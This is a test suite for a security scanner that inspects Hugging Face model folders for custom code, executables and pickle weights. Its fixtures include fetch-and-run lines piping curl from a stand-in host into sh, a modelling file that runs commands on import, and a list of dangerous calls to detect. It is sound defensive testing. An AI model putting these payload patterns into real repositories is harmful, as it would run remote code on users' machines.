"""Hugging Face model folders as code: auto_map and friends, code beside weights, MG48x."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

import modelguard
from modelguard.analysers.hfrepo import check_config, code_refs, folder_findings
from modelguard.analysers.pycode import dangerous_calls, relative_imports
from modelguard.filescan import FileScan
from modelguard.policy import Policy
from modelguard.results import FileResult, Location, ScanReport, Severity

# -- fixtures ------------------------------------------------------------------------------

BENIGN_CONFIGURATION = '''\
"""Configuration of the tiny test model."""

from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size: int = 32, num_layers: int = 1, **kwargs):
        self.hidden_size = hidden_size
        self.num_layers = num_layers
        super().__init__(**kwargs)
'''

BENIGN_MODELING = '''\
"""A tiny transformer block, written the way hub modelling files are."""

import logging
import math
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig

logger = logging.getLogger(__name__)


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig) -> None:
        super().__init__()
        self.qkv = nn.Linear(config.hidden_size, 3 * config.hidden_size)
        self.scale = 1.0 / math.sqrt(config.hidden_size)

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        q, k, v = self.qkv(x).chunk(3, dim=-1)
        scores = torch.einsum("bqd,bkd->bqk", q, k) * self.scale
        if mask is not None:
            scores = scores.masked_fill(mask == 0, float("-inf"))
        return torch.einsum("bqk,bkd->bqd", F.softmax(scores, dim=-1), v)


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config: TinyConfig) -> None:
        super().__init__(config)
        self.layers = nn.ModuleList([TinyAttention(config) for _ in range(config.num_layers)])
        self.norm = nn.LayerNorm(config.hidden_size)
        self.post_init()

    def forward(self, hidden: torch.Tensor) -> torch.Tensor:
        for layer in self.layers:
            hidden = hidden + layer(hidden)
        if not self.training:
            logger.debug("eval forward %s", tuple(hidden.shape))
        return self.norm(hidden)

    def compiled(self) -> nn.Module:
        self.eval()
        return torch.compile(self)
'''

HELPER = """\
import os


def cache_dir():
    return os.path.join(os.path.expanduser("~"), ".cache")


def warm_up():
    os.system("curl -s http://example.invalid/x | sh")
"""


def _tiny_bert(folder: Path) -> None:
    from transformers import BertConfig, BertModel

    torch.manual_seed(0)
    config = BertConfig(
        hidden_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=37,
        vocab_size=99,
    )
    BertModel(config).save_pretrained(folder)


def _custom_folder(
    folder: Path, auto_map: object, files: dict[str, str] | None = None, *, weights: bool = True
) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    config = {"model_type": "tiny", "hidden_size": 32, "auto_map": auto_map}
    (folder / "config.json").write_text(json.dumps(config, indent=2))
    default = {
        "configuration_tiny.py": BENIGN_CONFIGURATION,
        "modeling_tiny.py": BENIGN_MODELING,
    }
    for name, text in (default if files is None else files).items():
        (folder / name).write_text(text)
    if weights:
        from safetensors.torch import save_file

        save_file({"w": torch.zeros(2, 2)}, folder / "model.safetensors")
    return folder


TINY_MAP = {"AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}


def _scan(target: Path) -> ScanReport:
    report = modelguard.scan(target)
    for res in report.files:
        assert not any("internal error" in i.reason for i in res.incomplete), res
    return report


def _file(report: ScanReport, name: str) -> FileResult:
    return next(r for r in report.files if r.path.endswith("/" + name))


def _indicator(rule_id: str) -> bool:
    # the cheap provenance indicators (MG53x: unsigned model, pickle-only weights) run on
    # every folder scan; these tests are about the Hugging Face folder analyser
    return rule_id.startswith("MG53")


def _rules(res: FileResult) -> list[str]:
    return [f.rule_id for f in res.findings if not _indicator(f.rule_id)]


def _all_rules(report: ScanReport) -> list[str]:
    return [f.rule_id for r in report.files for f in r.findings if not _indicator(f.rule_id)]


# -- benign --------------------------------------------------------------------------------


def test_save_pretrained_folder_is_clean(tmp_path: Path) -> None:
    _tiny_bert(tmp_path)
    report = _scan(tmp_path)
    assert report.files
    for res in report.files:
        assert res.complete, res.incomplete
        assert not _rules(res), res.findings
    # an unsigned model folder is only information
    assert {f.rule_id for f in report.findings} <= {"MG530"}
    assert all(f.severity is Severity.INFO for f in report.findings)


def test_custom_code_folder_is_low_only(tmp_path: Path) -> None:
    _custom_folder(tmp_path, TINY_MAP)
    report = _scan(tmp_path)
    assert _rules(_file(report, "config.json")) == ["MG480"]
    finding = _file(report, "config.json").findings[0]
    assert finding.severity is Severity.LOW
    files = dict(finding.evidence)["files"]
    assert "modeling_tiny.py" in files
    assert "configuration_tiny.py" in files
    assert _all_rules(report) == ["MG480"]
    assert all(r.complete for r in report.files)


# -- malicious -----------------------------------------------------------------------------

DANGEROUS_MODELING = (
    BENIGN_MODELING
    + """

def _setup():
    import subprocess as sp
    from os import system as run_it

    run_it("id")
    sp.check_output(["id"])


_setup()
"""
)

RELATIVE = BENIGN_MODELING.replace(
    "from .configuration_tiny import TinyConfig",
    "from .configuration_tiny import TinyConfig\nfrom .utils import warm_up",
)


@pytest.mark.parametrize(
    ("files", "expected", "call"),
    [
        (
            {"configuration_tiny.py": BENIGN_CONFIGURATION, "modeling_tiny.py": DANGEROUS_MODELING},
            "MG485",
            "modeling_tiny.py",
        ),
        (
            {
                "configuration_tiny.py": BENIGN_CONFIGURATION,
                "modeling_tiny.py": RELATIVE,
                "utils.py": HELPER,
            },
            "MG485",
            "utils.py:9 os.system",
        ),
        ({"configuration_tiny.py": BENIGN_CONFIGURATION}, "MG482", "modeling_tiny.py"),
        (
            {"configuration_tiny.py": BENIGN_CONFIGURATION, "modeling_tiny.py": RELATIVE},
            "MG482",
            "utils.py",
        ),
    ],
)
def test_custom_code_findings(
    tmp_path: Path, files: dict[str, str], expected: str, call: str
) -> None:
    _custom_folder(tmp_path, TINY_MAP, files)
    res = _file(_scan(tmp_path), "config.json")
    hits = [f for f in res.findings if f.rule_id == expected]
    assert len(hits) == 1
    assert hits[0].severity is Severity.HIGH
    assert call in " ".join(v for _, v in hits[0].evidence)
    assert "MG480" in _rules(res)


def test_dangerous_calls_listed(tmp_path: Path) -> None:
    files = {"configuration_tiny.py": BENIGN_CONFIGURATION, "modeling_tiny.py": DANGEROUS_MODELING}
    _custom_folder(tmp_path, TINY_MAP, files)
    res = _file(_scan(tmp_path), "config.json")
    calls = next(dict(f.evidence)["calls"] for f in res.findings if f.rule_id == "MG485")
    assert "os.system" in calls
    assert "subprocess.check_output" in calls


def test_cross_repo(tmp_path: Path) -> None:
    _custom_folder(tmp_path, {"AutoModel": "evil/repo--modeling.X"}, {})
    res = _file(_scan(tmp_path), "config.json")
    hits = [f for f in res.findings if f.rule_id == "MG481"]
    assert len(hits) == 1
    assert hits[0].severity is Severity.CRITICAL
    assert dict(hits[0].evidence)["repo"] == "evil/repo"
    assert "MG482" not in _rules(res)  # the file is in the other repository


def test_tokenizer_pair_with_none(tmp_path: Path) -> None:
    doc = {"auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]}}
    (tmp_path / "tokenizer_config.json").write_text(json.dumps(doc))
    res = _file(_scan(tmp_path), "tokenizer_config.json")
    assert sorted(_rules(res)) == ["MG480", "MG482"]


def test_custom_pipelines(tmp_path: Path) -> None:
    doc = {
        "custom_pipelines": {
            "text-classification": {"impl": "pipe_tiny.TinyPipeline", "pt": ["AutoModel"]}
        }
    }
    (tmp_path / "config.json").write_text(json.dumps(doc))
    (tmp_path / "pipe_tiny.py").write_text("import eval_helpers\n\nx = eval('1 + 1')\n")
    res = _file(_scan(tmp_path), "config.json")
    assert sorted(_rules(res)) == ["MG480", "MG485"]


@pytest.mark.parametrize(
    ("kind", "rules"),
    [
        ("sentence_transformers.models.Transformer", []),
        ("custom_st.Pooler", ["MG480", "MG482"]),
        ("owner/repo--custom_st.Pooler", ["MG480", "MG481"]),
    ],
)
def test_sentence_transformers_modules(tmp_path: Path, kind: str, rules: list[str]) -> None:
    doc = [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {"idx": 1, "name": "1", "path": "1_Pooling", "type": kind},
    ]
    (tmp_path / "modules.json").write_text(json.dumps(doc))
    assert sorted(_rules(_file(_scan(tmp_path), "modules.json"))) == rules


def test_diffusers_model_index(tmp_path: Path) -> None:
    doc = {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "tokenizer": ["transformers", "CLIPTokenizer"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "feature_extractor": [None, None],
        "scheduler": ["my_scheduler", "MyScheduler"],
    }
    (tmp_path / "model_index.json").write_text(json.dumps(doc))
    (tmp_path / "scheduler").mkdir()
    (tmp_path / "scheduler" / "my_scheduler.py").write_text("import math\n")
    res = _file(_scan(tmp_path), "model_index.json")
    assert _rules(res) == ["MG480"]
    evidence = dict(res.findings[0].evidence)
    assert evidence["files"] == "scheduler/my_scheduler.py"
    assert "stable_diffusion" not in evidence["entries"]


def test_diffusers_custom_pipeline(tmp_path: Path) -> None:
    doc = {"_class_name": ["pipeline_tiny", "TinyPipeline"], "_diffusers_version": "0.30.0"}
    (tmp_path / "model_index.json").write_text(json.dumps(doc))
    (tmp_path / "pipeline_tiny.py").write_text("import os\nos.popen('id')\n")
    res = _file(_scan(tmp_path), "model_index.json")
    assert sorted(_rules(res)) == ["MG480", "MG485"]


def test_benign_diffusers_index_is_clean(tmp_path: Path) -> None:
    doc = {
        "_class_name": "X",
        "_diffusers_version": "0.30.0",
        "vae": ["diffusers", "AutoencoderKL"],
    }
    (tmp_path / "model_index.json").write_text(json.dumps(doc))
    assert not _rules(_file(_scan(tmp_path), "model_index.json"))


def test_archive_member_config_checks_its_sibling_members(tmp_path: Path) -> None:
    import zipfile

    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as zf:
        zf.writestr("config.json", json.dumps({"auto_map": {"AutoModel": "missing.X"}}))
    res = _scan(tmp_path / "bundle.zip").files[0]
    assert sorted(_rules(res)) == ["MG480", "MG482"]


# -- the folder as a whole -------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
PE = b"MZ" + bytes(0x3A) + struct.pack("<I", 0x40) + b"PE\x00\x00" + bytes(16)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(28)
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("libhelper.so", ELF, "ELF"),
        ("tool.exe", PE, "PE"),
        ("tool", MACHO, "Mach-O"),
        ("setup.sh", SCRIPT, "script"),
        ("run", b"#!/usr/bin/env python3\nprint(1)\n", "script"),
    ],
)
def test_executable_beside_weights(tmp_path: Path, name: str, data: bytes, kind: str) -> None:
    _tiny_bert(tmp_path)
    (tmp_path / name).write_bytes(data)
    report = _scan(tmp_path)
    res = _file(report, name)
    hits = [f for f in res.findings if f.rule_id == "MG483"]
    assert len(hits) == 1
    assert hits[0].severity is Severity.MEDIUM
    assert kind in dict(hits[0].evidence)["kind"]


def test_executable_at_root_of_component_repo(tmp_path: Path) -> None:
    _tiny_bert(tmp_path / "text_encoder")
    (tmp_path / "install.sh").write_bytes(SCRIPT)
    assert "MG483" in _rules(_file(_scan(tmp_path), "install.sh"))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("setup.sh", SCRIPT),
        ("libhelper.so", ELF),
    ],
)
def test_executable_without_weights_not_flagged(tmp_path: Path, name: str, data: bytes) -> None:
    (tmp_path / "README.md").write_text("# notes\n")
    (tmp_path / name).write_bytes(data)
    assert "MG483" not in _all_rules(_scan(tmp_path))


def test_python_and_near_misses_not_executables(tmp_path: Path) -> None:
    _tiny_bert(tmp_path)
    (tmp_path / "convert.py").write_text("#!/usr/bin/env python\nimport math\n")
    (tmp_path / "notes.txt").write_text("MZ is a magic number; so is #! in the middle\n")
    assert "MG483" not in _all_rules(_scan(tmp_path))


def test_pickle_beside_safetensors(tmp_path: Path) -> None:
    _tiny_bert(tmp_path)
    from safetensors.torch import load_file

    state = load_file(tmp_path / "model.safetensors")
    torch.save(state, tmp_path / "pytorch_model.bin", _use_new_zipfile_serialization=False)
    report = _scan(tmp_path)
    hits = [f for f in _file(report, "pytorch_model.bin").findings if f.rule_id == "MG484"]
    assert len(hits) == 1
    assert hits[0].severity is Severity.LOW
    assert "MG484" not in _rules(_file(report, "model.safetensors"))


def test_pickle_alone_is_not_mg484(tmp_path: Path) -> None:
    torch.save({"w": torch.zeros(2)}, tmp_path / "a.bin", _use_new_zipfile_serialization=False)
    assert "MG484" not in _all_rules(_scan(tmp_path))


def test_folder_findings_unit(tmp_path: Path) -> None:
    repo, other = tmp_path / "repo", tmp_path / "other"
    sub, tools = repo / "w", repo / "x"
    for folder in (sub, tools, other):
        folder.mkdir(parents=True)
        (folder / "tool").write_bytes(ELF)
    files = [
        (sub / "model.safetensors", FileResult("repo/w/model.safetensors", 1, ("safetensors",))),
        (sub / "model.pt", FileResult("repo/w/model.pt", 1, ("zip", "torch-zip", "pickle"))),
        (sub / "tool", FileResult("repo/w/tool", 1, ("unknown",))),
        (tools / "tool", FileResult("repo/x/tool", 1, ("unknown",))),
    ]
    out = folder_findings(files, Policy())
    # x/ holds no weights but is part of the repository whose w/ does.
    assert sorted(out) == ["repo/w/model.pt", "repo/w/tool", "repo/x/tool"]
    assert [f.rule_id for f in out["repo/w/model.pt"]] == ["MG484"]
    assert [f.rule_id for f in out["repo/w/tool"]] == ["MG483"]
    # A tree without weights has no model folder.
    lone = [(other / "tool", FileResult("other/tool", 1, ("unknown",)))]
    assert folder_findings(lone, Policy()) == {}


@pytest.mark.parametrize(
    ("weights", "tool"),
    [
        ("model.safetensors", "bin/tool"),  # below the weights folder
        ("unet/model.safetensors", "tools/x"),  # beside a component folder
        ("unet/model.safetensors", "a/b/c/x"),  # deep beside
        ("model.safetensors", "helper.py"),  # native code named .py
        ("text_encoder/model.safetensors", "install"),  # at the root of a component repo
    ],
)
def test_executable_anywhere_in_model_tree(tmp_path: Path, weights: str, tool: str) -> None:
    _tiny_bert((tmp_path / weights).parent)
    (tmp_path / tool).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / tool).write_bytes(ELF)
    assert "MG483" in _rules(_file(_scan(tmp_path), tool))


@pytest.mark.parametrize(
    "source",
    [
        b"\xef\xbb\xbfimport os\r\nos.system('x')\r\n",  # UTF-8 BOM, CRLF
        b"# -*- coding: latin-1 -*-\n# caf\xe9\nimport os\nos.system('x')\n",
        b"# coding: utf-16\n",  # a cookie Python refuses: MG002, never an internal error
    ],
)
def test_encoded_sources_are_read(tmp_path: Path, source: bytes) -> None:
    _custom_folder(tmp_path, TINY_MAP)
    (tmp_path / "modeling_tiny.py").write_bytes(source)
    res = _file(_scan(tmp_path), "config.json")
    reasons = [i.reason for i in res.incomplete]
    assert not any("internal error" in r for r in reasons)
    if b"os.system" in source:
        assert "MG485" in _rules(res)
        assert not reasons


def test_bom_benign_source_is_clean(tmp_path: Path) -> None:
    _custom_folder(tmp_path, TINY_MAP)
    (tmp_path / "modeling_tiny.py").write_bytes(
        b"\xef\xbb\xbfimport torch\r\nclass X(torch.nn.Module):\r\n    pass\r\n"
    )
    res = _file(_scan(tmp_path), "config.json")
    assert _rules(res) == ["MG480"]
    assert not res.incomplete


# -- the code reader -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import os\nos.system('x')\n", ["os.system"]),
        ("import os as o\no.popen('x')\n", ["os.popen"]),
        ("from os import execv\nexecv('a', [])\n", ["os.execv"]),
        ("import subprocess\nsubprocess.Popen(['x'])\n", ["subprocess.Popen"]),
        ("eval(input())\n", ["eval"]),
        ("exec(compile('1', 'f', 'exec'))\n", ["exec", "compile"]),
        ("__import__('os')\n", ["__import__"]),
        (
            "import importlib\nimportlib.import_module(name)\n",
            ["importlib.import_module (computed name)"],
        ),
        ("import socket\nsocket.create_connection(('h', 1))\n", ["socket.create_connection"]),
        ("import urllib.request\nurllib.request.urlopen('u')\n", ["urllib.request.urlopen"]),
        ("from urllib.request import urlopen as u\nu('x')\n", ["urllib.request.urlopen"]),
        ("import requests\nrequests.post('u', data=b'')\n", ["requests.post"]),
        ("import pickle\npickle.loads(b'')\n", ["pickle.loads"]),
        ("import marshal\nmarshal.loads(b'')\n", ["marshal.loads"]),
        ("import ctypes\nctypes.CDLL('x.so')\n", ["ctypes.CDLL"]),
        ("import shutil\nshutil.rmtree('/')\n", ["shutil.rmtree"]),
        ("import os\ngetattr(os, 'sys' + 'tem')('x')\n", ["getattr(os, <computed>)"]),
        ("import os\ngetattr(os, 'system')('x')\n", ["getattr(os, 'system')"]),
        ("from subprocess import *\nrun(['x'])\n", ["subprocess.run"]),
        ("import os.path as p\np.join('a')\n", []),
        ("import importlib\nimportlib.import_module('math')\n", []),
        ("model.eval()\ntorch.compile(m)\nre.compile('x')\n", []),
        ("def eval(x):\n    return x\n\neval(1)\n", []),
        ("import torch\ntorch.save({}, 'x')\nx = torch.load('y', weights_only=True)\n", []),
        ("def f(:\n", []),
    ],
)
def test_dangerous_calls(source: str, expected: list[str]) -> None:
    calls, _ = dangerous_calls(source)
    assert [c for _, c in calls] == expected


def test_deeply_nested_source_does_not_raise() -> None:
    calls, ok = dangerous_calls("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n")
    assert calls == []
    assert not ok


# -- fuzz ------------------------------------------------------------------------------------

_KEYS = [
    "auto_map", "custom_pipelines", "impl", "type", "path", "idx", "name", "_class_name",
    "_diffusers_version", "AutoModel", "unet", "x",
]  # fmt: skip
_LEAVES = ["modeling.X", "a/b--m.C", "sentence_transformers.x", "diffusers", "..", "unet"]
_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(alphabet="ab.-/_ :x\\\x00", max_size=12)
    | st.sampled_from(_LEAVES),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(st.sampled_from(_KEYS), children, max_size=5)
    ),
    max_leaves=20,
)


@given(_JSON, st.sampled_from(["config.json", "modules.json", "model_index.json", "x.json"]))
@settings(max_examples=300, deadline=None)
def test_check_config_fuzz(
    tmp_path_factory: pytest.TempPathFactory, value: object, name: str
) -> None:
    folder = tmp_path_factory.getbasetemp() / "fuzzcfg"
    folder.mkdir(exist_ok=True)
    (folder / "modeling.py").write_text("import os\nos.system('x')\n")
    for path in (None, str(folder / name)):
        scan = FileScan(name, Policy(), path)
        check_config(scan, value, Location(name), name)
        code_refs(value, name)
        for finding in scan.coll.findings:
            assert all(isinstance(v, str) for _, v in finding.evidence)


_SNIPPETS = st.sampled_from(
    ["import os", "os.system('x')", "from . import u", "from .a.b import c", "eval(x)",
     "getattr(os, n)()", "def f(x):", "    return x", "(", ")", "\x00", "from os import *",
     "import subprocess as s", "s.run()", "class A:", "    pass"]
)  # fmt: skip


@given(st.lists(_SNIPPETS | st.text(max_size=10), max_size=12).map("\n".join))
@settings(max_examples=200, deadline=None)
def test_code_reader_fuzz(source: str) -> None:
    calls, _ = dangerous_calls(source)
    assert all(isinstance(line, int) and isinstance(call, str) for line, call in calls)
    for rel in relative_imports(source):
        assert rel.endswith(".py")
        assert not rel.startswith("/")


# -- a zipped repository: the code files are the config's sibling members ---------------------


def _zipped_repo(path: Path, code: str | None, folder: str = "repo/") -> Path:
    import zipfile as _zipfile

    with _zipfile.ZipFile(path, "w", _zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(folder + "config.json", json.dumps({"auto_map": {"AutoModel": "modeling_x.X"}}))
        if code is not None:
            zf.writestr(folder + "modeling_x.py", code)
    return path


@pytest.mark.parametrize("folder", ["repo/", "", "a/b/"])
def test_zipped_repo_custom_code_is_read_from_sibling_members(tmp_path: Path, folder: str) -> None:
    path = _zipped_repo(tmp_path / "r.zip", "import os\nos.system('id')\n", folder)
    result = modelguard.scan(path).files[0]
    assert "MG485" in {f.rule_id for f in result.findings}, result.findings


def test_zipped_repo_with_clean_code_and_missing_code(tmp_path: Path) -> None:
    clean = modelguard.scan(_zipped_repo(tmp_path / "c.zip", "import torch\n")).files[0]
    assert {f.rule_id for f in clean.findings} == {"MG480"}
    missing = modelguard.scan(_zipped_repo(tmp_path / "m.zip", None)).files[0]
    assert "MG482" in {f.rule_id for f in missing.findings}


def test_trainer_state_beside_safetensors_is_not_pickle_weights(tmp_path: Path) -> None:
    from safetensors.torch import save_file

    save_file({"w": torch.zeros(2)}, str(tmp_path / "model.safetensors"))
    for name in ("optimizer.pt", "scheduler.pt", "rng_state.pth", "rng_state_1.pth"):
        torch.save({"state": {}, "step": 1}, tmp_path / name)
    torch.save({"w": torch.zeros(2)}, tmp_path / "pytorch_model.bin")
    found = {Path(f.path).name: _rules(f) for f in modelguard.scan(tmp_path).files}
    assert found["pytorch_model.bin"] == ["MG484"]
    assert all(rules == [] for name, rules in found.items() if name != "pytorch_model.bin")
